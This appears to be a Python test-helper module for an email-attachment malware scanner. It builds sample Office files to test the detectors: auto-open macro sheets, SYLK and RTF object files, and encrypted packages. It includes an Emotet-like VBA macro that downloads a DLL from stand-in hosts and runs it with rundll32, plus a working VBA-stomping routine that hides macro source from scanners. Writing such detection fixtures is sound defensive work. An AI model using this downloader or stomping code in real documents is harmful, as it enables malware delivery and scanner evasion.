        members["xl/macrosheets/sheet1.xml"] = f'<?xml version="1.0" encoding="UTF-8"?>\n<xm:macrosheet xmlns="{_S}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData>{macrosheet}</sheetData></xm:macrosheet>'
        overrides["xl/macrosheets/sheet1.xml"] = "application/vnd.ms-excel.macrosheet+xml"
    if macro:
        rels.append(("", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False))
        members["xl/vbaProject.bin"] = vba_project_bin(macro)
    names = f"<definedNames>{defined_names}</definedNames>" if defined_names else ""
    members["xl/workbook.xml"] = f'<?xml version="1.0" encoding="UTF-8"?>\n<workbook xmlns="{_S}" xmlns:r="{_R}"><sheets>{sheets}</sheets>{names}</workbook>'
    members["xl/_rels/workbook.xml.rels"] = _rels(*rels)
    members.update(extra or {})
    overrides.update(extra_overrides or {})
    return ooxml(members, overrides)


def xlsb_with_macrosheet(auto_open: bool = True) -> bytes:
    """An .xlsb-shaped package with a binary macro sheet part; workbook.bin carries a BrtName record
    for Auto_Open (name as UTF-16 XLWideString) when `auto_open`."""
    name = "Auto_Open".encode("utf-16-le")
    workbook_bin = b"\x83\x01\x00" + (b"\x27\x20" + struct.pack("<I", len(name) // 2) + name if auto_open else b"") + b"\x84\x01\x00"
    return ooxml(
        {"_rels/.rels": _rels(("", "officeDocument", "xl/workbook.bin", False)),
         "xl/workbook.bin": workbook_bin,
         "xl/_rels/workbook.bin.rels": _rels(("", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.bin", False)),
         "xl/macrosheets/sheet1.bin": b"\x81\x01\x00\x00" + "EXEC".encode("utf-16-le")},
        {"xl/workbook.bin": "application/vnd.ms-excel.sheet.binary.macroEnabled.main",
         "xl/macrosheets/sheet1.bin": "application/vnd.ms-excel.macrosheet"},
    )


def xlsx_by_xlsxwriter() -> bytes:
    """An ordinary workbook written by XlsxWriter: strings, numbers and a formula."""
    import xlsxwriter

    buf = io.BytesIO()
    book = xlsxwriter.Workbook(buf, {"in_memory": True})
    sheet = book.add_worksheet("見積")
    sheet.write_row(0, 0, ["品名", "数量", "単価", "金額"])
    sheet.write_row(1, 0, ["Sensor A", 10, 1200])
    sheet.write_formula(1, 3, "=B2*C2", None, 12000)
    sheet.write_url(3, 0, "https://www.example.com/catalogue")
    book.close()
    return buf.getvalue()


# ---------------------------------------------------------------- text formats: SYLK, CSV, RTF


def sylk(cells: list[str], macro_sheet: bool = True, auto_open: bool = True) -> bytes:
    """A SYLK file; `macro_sheet` adds the O;E record that makes Excel treat it as a macro sheet."""
    lines = ["ID;P"] + (["O;E"] if macro_sheet else [])
    if auto_open:
        lines.append("NN;NAuto_open;ER1C1")
    lines += [f"C;X1;Y{i};E{formula}" for i, formula in enumerate(cells, 1)]
    lines.append("E")
    return ("\r\n".join(lines) + "\r\n").encode("latin-1")


def rtf_with_object(class_name: str, native: bytes, *, clsid_hint: str = "") -> bytes:
    """An RTF document with one {\\object\\objemb{\\*\\objclass ...}{\\*\\objdata hex}} group."""
    hexdata = ole1_object(class_name, native).hex()
    wrapped = "\n".join(hexdata[i : i + 128] for i in range(0, len(hexdata), 128))
    return ("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times New Roman;}}\\pard Please see the attached form.\\par\n"
            f"{{\\object\\objemb{{\\*\\objclass {class_name}}}\\objw2000\\objh400{{\\*\\objdata\n{wrapped}\n}}}}"
            f"{clsid_hint}\\par}}\n").encode("latin-1")


def plain_rtf() -> bytes:
    return b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}\\pard\\b Invoice\\b0\\par Amount due: 12,000 JPY\\par}\n"


# ---------------------------------------------------------------- encryption (msoffcrypto-tool)


def encrypt_ooxml(plain: bytes, password: str) -> bytes:
    """ECMA-376 agile encryption of an OOXML package, as Office does for "Encrypt with Password"."""
    from msoffcrypto.format.ooxml import OOXMLFile

    if len(plain) < 4096:
        # msoffcrypto-tool 6.1 cannot decrypt an EncryptedPackage kept in the mini stream; real packages
        # are larger anyway (styles, theme, thumbnail), so pad with a stored thumbnail-sized member.
        buf = io.BytesIO(plain)
        with zipfile.ZipFile(buf, "a") as zf:
            zf.writestr(zipfile.ZipInfo("docProps/thumbnail.emf"), b"\0" * 4096)
        plain = buf.getvalue()
    out = io.BytesIO()
    OOXMLFile(io.BytesIO(plain)).encrypt(password, out)
    return out.getvalue()


# ---------------------------------------------------------------- running detectors the rspamd way: message in, findings out


def office_findings(detectors, attachments: list[tuple[str, bytes]], body: str = "Please see the attachment.\n",
                    password_sources=()) -> list:
    """Mail the attachments, parse the message, run `detectors` in order (as the registry does)."""
    from kakuri.detect.base import ScanContext
    from kakuri.parse.mime import parse_message

    from tests.builders import make_message

    message = parse_message(make_message(body=body, attachments=attachments))
    ctx = ScanContext(password_sources=list(password_sources))
    return [finding for detector in detectors for finding in detector.check(message, ctx)]


def symbols_of(findings) -> set[str]:
    return {finding.symbol for finding in findings}


EMOTET_LIKE_MODULES = {
    "ThisDocument": "Private Sub Document_Open()\n    Module1.Fetch\nEnd Sub\n",
    "Module1": (
        'Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" '
        "(ByVal a As LongPtr, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long\n"
        "Public Sub Fetch()\n"
        '    Dim hosts As Variant: hosts = Split("http://198.51.100.7/load/a1/,https://cdn.bad-host.test/wp/x2/", ",")\n'
        "    Dim h As Variant\n"
        "    For Each h In hosts\n"
        '        If URLDownloadToFile(0, h, Environ("TEMP") & "\\\\r.dll", 0, 0) = 0 Then Exit For\n'
        "    Next\n"
        '    CreateObject("WScript.Shell").Run "rundll32 " & Environ("TEMP") & "\\\\r.dll,Control_RunDLL", 0\n'
        "End Sub\n"
    ),
}

BUSINESS_MODULES = {
    "Module1": (
        "Sub FormatReport()\n"
        "    Dim r As Long\n"
        "    For r = 2 To 100\n"
        '        Cells(r, 4).Value = Cells(r, 2).Value * Cells(r, 3).Value\n'
        "    Next\n"
        "End Sub\n"
    ),
}


# ---------------------------------------------------------------- VBA stomping (what EvilClippy does)


def stomp_vba(ole_data: bytes, source: str = "") -> bytes:
    """The same compound file with every VBA module's source replaced by `source` (after its
    Attribute VB_Name line) while the compiled p-code before the module's text offset stays: the
    document runs the old code in the Office version that compiled it. Needs a file with p-code, i.e.
    one Office saved (our builders write source only)."""
    import olefile
    from oletools import olevba

    ole = olefile.OleFileIO(ole_data)
    streams = {"/".join(path): ole.openstream(path).read() for path in ole.listdir()}
    clsids = {"": bytes(uuid.UUID(ole.root.clsid).bytes_le) if ole.root.clsid else b"\0" * 16}
    parser = olevba.VBA_Parser("stomp", data=ole_data)
    for vba_root, project_path, dir_path in parser.find_vba_projects():
        project = olevba.VBA_Project(ole, vba_root, project_path, dir_path)
        for _ in project.parse_modules():
            pass
        for module in project.modules:
            path = f"{vba_root}VBA/{module.streamname}"
            text = f'Attribute VB_Name = "{module.name}"\r\n{source}'
            streams[path] = streams[path][: module.textoffset] + ovba_compress(text.encode("latin-1"))
    parser.close()
    return ole_file(streams, clsids)
